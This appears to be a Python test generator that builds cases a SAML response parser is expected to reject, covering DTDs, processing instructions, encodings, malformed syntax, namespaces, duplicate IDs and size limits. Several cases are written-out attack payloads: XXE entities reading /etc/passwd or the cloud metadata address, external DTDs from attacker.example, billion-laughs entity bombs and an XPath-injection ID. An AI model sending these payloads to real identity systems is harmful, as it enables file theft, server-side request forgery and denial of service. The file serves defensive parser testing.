"""Refused by the XML floor: DTDs, instructions, encodings, syntax, namespaces, IDs and limits."""

import names as n
from templates import edit, message
from vector import reject

GOOD = message()
VALUE = "<saml:AttributeValue>staff</saml:AttributeValue>"
ROOT = '<samlp:Response '


def mint():
    _doctype()
    _instructions()
    _encoding()
    _syntax()
    _namespaces()
    _ids()
    _structure()
    _limits()


def with_value(content, **options):
    """A genuine message whose value has this content."""
    return message((VALUE, f"<saml:AttributeValue>{content}</saml:AttributeValue>"), **options)


def _doctype():
    def case(name, about, dtd, text=GOOD, flags=("Doctype",)):
        reject(f"xml/doctype-{name}", about, f"{dtd}\n{text}", "xml.doctype-forbidden", flags=flags, spec=["saml-core 5.4"])

    ident = edit(GOOD, ('ID="_a1"', 'ID="&i;"'))
    name = edit(GOOD, ("alice@example.org</saml:NameID>", "&n;</saml:NameID>"))
    root = "samlp:Response"
    case("bare", "a DOCTYPE with nothing in it", f"<!DOCTYPE {root}>")
    case("empty-subset", "an empty internal subset", f"<!DOCTYPE {root} []>")
    case("system", "an external subset from a server", f'<!DOCTYPE {root} SYSTEM "http://attacker.example/evil.dtd">')
    case("public", "an external subset by public identifier", f'<!DOCTYPE {root} PUBLIC "-//W3C//DTD XHTML 1.0//EN" "file:///etc/hostname">')
    case("file-entity", "an external entity from a file", f'<!DOCTYPE {root} [<!ENTITY n SYSTEM "file:///etc/passwd">]>', name, ("Doctype", "Entity"))
    case("http-entity", "an external entity from a server", f'<!DOCTYPE {root} [<!ENTITY n SYSTEM "http://169.254.169.254/">]>', name,
         ("Doctype", "Entity"))
    case("parameter-entity", "an external parameter entity", f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>', GOOD,
         ("Doctype", "Entity"))
    case("entity-in-name-id", "an internal entity in the NameID", f'<!DOCTYPE {root} [<!ENTITY n "root">]>', name, ("Doctype", "Entity"))
    case("entity-in-id", "an internal entity in the ID: one text to one reader, another to the next", f'<!DOCTYPE {root} [<!ENTITY i "_a1">]>', ident,
         ("Doctype", "Entity"))
    laughs = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    case("billion-laughs", "nine levels of ten entities each", f'<!DOCTYPE {root} [<!ENTITY l0 "ha">{laughs}<!ENTITY n "&l9;">]>', name,
         ("Doctype", "EntityBomb"))
    case("quadratic", "one long entity, used often", f'<!DOCTYPE {root} [<!ENTITY q "{"x" * 2000}"><!ENTITY n "{"&q;" * 200}">]>', name,
         ("Doctype", "EntityBomb"))
    case("recursive", "two entities, each in the other", f'<!DOCTYPE {root} [<!ENTITY n "&m;"><!ENTITY m "&n;">]>', name, ("Doctype", "EntityBomb"))
    case("default-attribute", "a default attribute", f'<!DOCTYPE {root} [<!ATTLIST saml:NameID Format CDATA "urn:evil">]>')
    case("default-namespace", "a default namespace declaration", f'<!DOCTYPE {root} [<!ATTLIST saml:NameID xmlns:x CDATA "urn:evil">]>')
    case("id-attribute", "another attribute is declared to be an ID", f"<!DOCTYPE {root} [<!ATTLIST saml:Attribute Name ID #IMPLIED>]>")
    case("quotes-and-comments", "comments and quotes nested so that two parsers see two documents",
         f'<!DOCTYPE {root} [<!ENTITY a \'"<!-- \'> <!ENTITY b \' -->"\'> <!-- "> ]> --> ]>')
    reject("xml/doctype-html", "an HTML page is posted", "<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><p>Wrong password</p></body></html>\n",
           "xml.doctype-forbidden", flags=["Doctype"], spec=["saml-core 5.4"])


def _instructions():
    def case(name, about, text):
        reject(f"xml/{name}", about, text, "xml.instruction-forbidden", flags=["Instruction"], spec=["xml 2.6"])

    case("instruction-before", "a style sheet before the root element", '<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n' + GOOD)
    case("instruction-after", "an instruction after the root element", GOOD + "<?php phpinfo() ?>\n")
    case("instruction-in-name-id", "signed text is hidden in an instruction", edit(
        message(("alice@example.org</saml:NameID>", "not-an-admin@example.org</saml:NameID>")),
        ("not-an-admin@example.org", "<?p not-an-?>admin@example.org")))
    case("instruction-in-assertion", "a signed instruction in the Assertion", message(("<saml:Conditions", "<?keep me?><saml:Conditions")))
    case("instruction-in-signature", "an instruction in DigestValue", edit(GOOD, ("<ds:DigestValue>", "<ds:DigestValue><?x y?>")))
    case("instruction-in-response", "an instruction in the unsigned part", edit(GOOD, ("<samlp:Status>", "<?x?><samlp:Status>")))


def _encoding():
    def case(name, about, text, code="xml.encoding-unsupported"):
        reject(f"xml/{name}", about, text, code, flags=["Encoding"], spec=["xml 2.8"])

    for name, label in [("latin-1", "ISO-8859-1"), ("utf-16", "UTF-16"), ("utf-7", "UTF-7"), ("ascii", "US-ASCII"), ("windows", "windows-1252"),
                        ("unknown", "x-evil"), ("utf8-without-hyphen", "UTF8")]:
        case(f"declares-{name}", f"the declaration says {label}, the bytes are UTF-8", f'<?xml version="1.0" encoding="{label}"?>\n{GOOD}')
    case("version-1-1", "XML 1.1", f'<?xml version="1.1" encoding="UTF-8"?>\n{GOOD}')
    case("version-9", "a version that does not exist", f'<?xml version="9.9"?>\n{GOOD}')
    case("utf-16-without-mark", "UTF-16 without a mark is UTF-8 full of NULs", GOOD.encode("utf-16-le"), "xml.malformed")
    case("two-byte-order-marks", "two byte order marks: the second one is text before the root element", b"\xef\xbb\xbf\xef\xbb\xbf" + GOOD.encode(),
         "xml.malformed")
    case("nul", "a NUL in the NameID", edit(GOOD, ("alice@example.org</saml:NameID>", "alice\x00@example.org</saml:NameID>")), "xml.malformed")


def _syntax():
    def case(name, about, text):
        reject(f"xml/{name}", about, text, "xml.malformed", flags=["WellFormed"], spec=["xml 2.1"])

    name = "alice@example.org</saml:NameID>"
    case("truncated", "the message is cut in the middle", GOOD[: len(GOOD) // 2])
    case("truncated-at-the-end", "the last character is missing", GOOD.rstrip()[:-1])
    case("two-roots", "two root elements", GOOD + GOOD.replace('"_r1"', '"_r2"').replace('"_a1"', '"_a2"'))
    case("text-after", "text after the root element", GOOD + "x")
    case("text-before", "text before the root element", "x" + GOOD)
    case("only-text", "no element at all", "SAMLResponse")
    case("only-blanks", "nothing but blanks", "  \n")
    case("html", "an HTML page without a DOCTYPE", "<html><body><p>Wrong password<br></body></html>\n")
    case("end-tag-mismatch", "an end tag of another element", edit(GOOD, ("</saml:Subject>", "</saml:subject>")))
    case("end-tag-other-prefix", "an end tag under another prefix of the same namespace", edit(
        GOOD, (f'<saml:Assertion xmlns:saml="{n.SAML}"', f'<saml:Assertion xmlns:a="{n.SAML}" xmlns:saml="{n.SAML}"'), ("</saml:Subject>", "</a:Subject>")))
    case("attribute-twice", "an attribute twice", edit(GOOD, ('ID="_r1"', 'ID="_r1" ID="_r1"')))
    case("attribute-twice-by-namespace", "one attribute under two prefixes of one namespace", edit(
        GOOD, ('Name="groups"', 'xmlns:a="urn:x" xmlns:b="urn:x" a:k="1" b:k="2" Name="groups"')))
    case("attribute-without-quotes", "an attribute without quotes", edit(GOOD, ('ID="_r1"', "ID=_r1")))
    case("attribute-without-value", "an attribute without a value", edit(GOOD, ('Name="groups"', 'Name="groups" hidden')))
    case("attribute-without-blank", "no blank between two attributes", edit(GOOD, ('ID="_r1" Version', 'ID="_r1"Version')))
    case("less-than-in-attribute", "a less-than sign in an attribute", edit(GOOD, ('Name="groups"', 'Name="gro<ups"')))
    case("bare-ampersand", "an ampersand alone", edit(GOOD, (name, "alice & bob</saml:NameID>")))
    case("undeclared-entity", "an entity that nobody declared", edit(GOOD, (name, "alice&nbsp;bob</saml:NameID>")))
    case("cdata-end-in-text", "the end of a CDATA section in text", edit(GOOD, (name, "alice]]>bob</saml:NameID>")))
    case("cdata-open", "a CDATA section without an end", edit(GOOD, (name, "<![CDATA[alice</saml:NameID>")))
    case("comment-two-hyphens", "two hyphens in a comment", edit(GOOD, ("<samlp:Status>", "<!-- a -- b --><samlp:Status>")))
    case("comment-open", "a comment without an end", edit(GOOD, ("<samlp:Status>", "<!-- <samlp:Status>")))
    case("control-character", "a control character", edit(GOOD, (name, "alice\x08</saml:NameID>")))
    case("noncharacter", "U+FFFE", edit(GOOD, (name, "alice\ufffe</saml:NameID>")))
    for label, about, reference in [
        ("nul", "NUL", "&#0;"), ("control", "a control character", "&#x1;"), ("surrogate", "a surrogate", "&#xD800;"),
        ("surrogate-pair", "a surrogate pair", "&#xD83D;&#xDE00;"), ("beyond", "a code point beyond the last one", "&#x110000;"),
        ("overflow", "a number that overflows to a letter", "&#4294967361;"), ("noncharacter", "U+FFFF", "&#xFFFF;"),
        ("no-digits", "no digits", "&#;"), ("no-semicolon", "no semicolon", "&#65 "), ("upper-x", "X in upper case", "&#X41;"),
    ]:
        case(f"reference-{label}", f"a character reference: {about}",
             edit(GOOD, (name, f"alice{reference}</saml:NameID>")))
    case("declaration-late", "an XML declaration after a line feed", '\n<?xml version="1.0"?>\n' + GOOD)
    case("declaration-twice", "two XML declarations", '<?xml version="1.0"?><?xml version="1.0"?>\n' + GOOD)
    case("name-starts-with-digit", "an element name that begins with a digit", edit(GOOD, (VALUE, "<saml:AttributeValue><1a/></saml:AttributeValue>")))


def _namespaces():
    def case(name, about, declaration, code="xml.namespace-malformed", content="staff"):
        text = edit(GOOD, (VALUE, f"<saml:AttributeValue {declaration}>{content}</saml:AttributeValue>"))
        reject(f"xml/namespace-{name}", about, text, code, flags=["Namespaces"], spec=["xml-names 3"])

    case("relative", "a relative namespace name: some canonicalizers give up and digest nothing", 'xmlns:x="1"')
    case("relative-path", "a relative namespace name with a path", 'xmlns:x="../evil"')
    case("relative-default", "a relative default namespace", 'xmlns="evil"')
    case("blanks", "a namespace name of blanks", 'xmlns:x="  "')
    case("prefix-undeclared-again", "an empty namespace name for a prefix", 'xmlns:x=""')
    case("declare-xmlns", "the prefix xmlns itself is declared", 'xmlns:xmlns="urn:example:x"')
    case("bound-to-xmlns", "a prefix is bound to the namespace of xmlns", 'xmlns:x="http://www.w3.org/2000/xmlns/"')
    case("bound-to-xml", "a prefix is bound to the namespace of xml", 'xmlns:x="http://www.w3.org/XML/1998/namespace"')
    case("xml-rebound", "the prefix xml is bound to another namespace", 'xmlns:xml="urn:example:x"')
    case("unbound-element", "an element under a prefix that nobody declared", "", "xml.namespace-malformed", "<nobody:x/>")
    case("unbound-attribute", "an attribute under a prefix that nobody declared", 'nobody:x="1"', "xml.namespace-malformed")
    case("two-colons", "a name with two colons", 'a:b:c="1"', "xml.namespace-malformed")


def _ids():
    def case(name, about, text, kind, flags=("Ids",)):
        reject(f"xml/id-{name}", about, text, f"xml.id-{kind}", flags=flags, spec=["saml-core 5.4.2"])

    for name, about, value in [
        ("empty", "an empty ID", ""), ("digit", "an ID that begins with a digit", "1a"), ("blank", "an ID with a blank", "_a 1"), ("hash", "an ID with a #", "_a#1"),
        ("quotes", "an ID with quotes, for those who build an XPath of it", "_a'] | //*['"), ("colon", "an ID with a colon", "_a:1"),
        ("slash", "an ID with a slash", "_a/1"), ("line-feed", "an ID that ends in a line feed", "_a1&#10;"),
    ]:
        case(name, about, message(('ID="_a1"', f'ID="{value}"'), sign="response"), "malformed", ("IdSyntax",))
    case("response-same", "Response and Assertion share an ID", message(('ID="_r1"', 'ID="_a1"')), "multiple")
    extension = '<samlp:Extensions><x:e xmlns:x="urn:example:x" {}/></samlp:Extensions><samlp:Status>'
    for name, attribute in [("ID", 'ID="_a1"'), ("Id", 'Id="_a1"'), ("id", 'id="_a1"'), ("xml-id", 'xml:id="_a1"'),
                            ("wsu-id", 'xmlns:wsu="urn:example:wsu" wsu:Id="_a1"')]:
        case(f"foreign-{name.lower() if name != 'Id' else 'mixed-case'}" if name != "ID" else "foreign-upper-case",
             f"an element of somebody else has the Assertion's ID as {name}", message(("<samlp:Status>", extension.format(attribute))), "multiple")
    case("signature-same", "a ds:Signature has the Assertion's ID as its Id", edit(GOOD, ("<ds:Signature ", '<ds:Signature Id="_a1" ')), "multiple")
    for name, attribute in [("lower-case", 'id="_x1"'), ("mixed-case", 'Id="_x1"'), ("xml-id", 'xml:id="_x1"'), ("odd-case", 'iD="_x1"'),
                            ("namespaced", f'xmlns:s="{n.SAMLP}" s:ID="_x1"'), ("wsu", 'xmlns:wsu="urn:example:wsu" wsu:Id="_x1"')]:
        case(f"forbidden-{name}", f"the Assertion has a second identifier: {name}", message(
            ("<saml:Assertion ", f"<saml:Assertion {attribute} ")), "forbidden", ("IdPollution",))
    case("forbidden-on-status", "a Status with an identifier under another name", message(("<samlp:Status>", '<samlp:Status Id="_x1">')), "forbidden",
         ("IdPollution",))


def _structure():
    def case(name, about, text):
        reject(f"xml/text-{name}", about, text, "xml.text-malformed", flags=["Text"], spec=["saml-core 2"])

    case("element-in-name-id", "an element in the NameID, as an IdP sends that does not escape", message(
        ("alice@example.org</saml:NameID>", "alice<x/>@example.org</saml:NameID>")))
    case("name-id-in-name-id", "a NameID in the NameID", message(
        ("alice@example.org</saml:NameID>", "<saml:NameID>root</saml:NameID></saml:NameID>")))
    case("element-in-audience", "an element in the Audience", message((f"<saml:Audience>{n.SP}", f"<saml:Audience><b/>{n.SP}")))
    case("element-in-issuer", "an element in the Assertion's Issuer", message((f"    <saml:Issuer>{n.IDP}", f"    <saml:Issuer><b/>{n.IDP}")))
    case("stray-in-response", "text between the children of the Response", message(("<samlp:Status>", "hello<samlp:Status>")))
    case("stray-in-assertion", "text between the children of the Assertion", message(("<saml:Conditions", "hello<saml:Conditions")))
    case("stray-in-subject", "text between the children of the Subject", message(("<saml:SubjectConfirmation ", "hello<saml:SubjectConfirmation ")))


def _limits():
    def case(name, about, text, kind, **rest):
        reject(f"xml/limit-{name}", about, text, f"xml.{kind}-limit-exceeded", flags=["Limits"], spec=["xml 2.1"], **rest)

    # Response, Assertion, AttributeStatement, Attribute and AttributeValue are five levels.
    case("depth", "one level deeper than the limit", with_value("<a>" * 60 + "</a>" * 60), "depth")
    case("depth-far", "a thousand levels", edit(GOOD, (">staff<", f">{'<a>' * 1000}{'</a>' * 1000}<")), "depth")
    case("nodes", "more than twenty thousand elements", with_value("<a/>" * 20001), "nodes")
    case("attributes", "one attribute more than the limit on one element", with_value(
        "<a " + " ".join(f'a{at}="1"' for at in range(257)) + "/>"), "attributes")
    case("prefixes", "more distinct prefixes than the limit", with_value("".join(f'<a xmlns:p{at}="urn:x"/>' for at in range(33))), "prefixes")
    case("prefixes-on-one-element", "more distinct prefixes than the limit on one element", with_value(
        "<a " + " ".join(f'xmlns:p{at}="urn:x:{at}"' for at in range(40)) + "/>"), "prefixes")
    case("declarations", "more namespace declarations than the limit, of one prefix", with_value('<a xmlns:p="urn:x"/>' * 4097), "declarations")
    case("namespace", "a namespace name one byte longer than the limit", with_value(f'<a xmlns:p="urn:{"x" * 509}"/>'), "namespace")
    case("text", "a text one byte longer than the limit", with_value("x" * 196609), "text")
    long = "urn:" + "x" * 496
    case("canonical", "two thousand elements, each of which declares a long namespace in canonical form", message(
        (VALUE, "<saml:AttributeValue>" + "<p:a/>" * 2300 + "</saml:AttributeValue>"), (ROOT, f'{ROOT}xmlns:p="{long}" ')), "canonical")
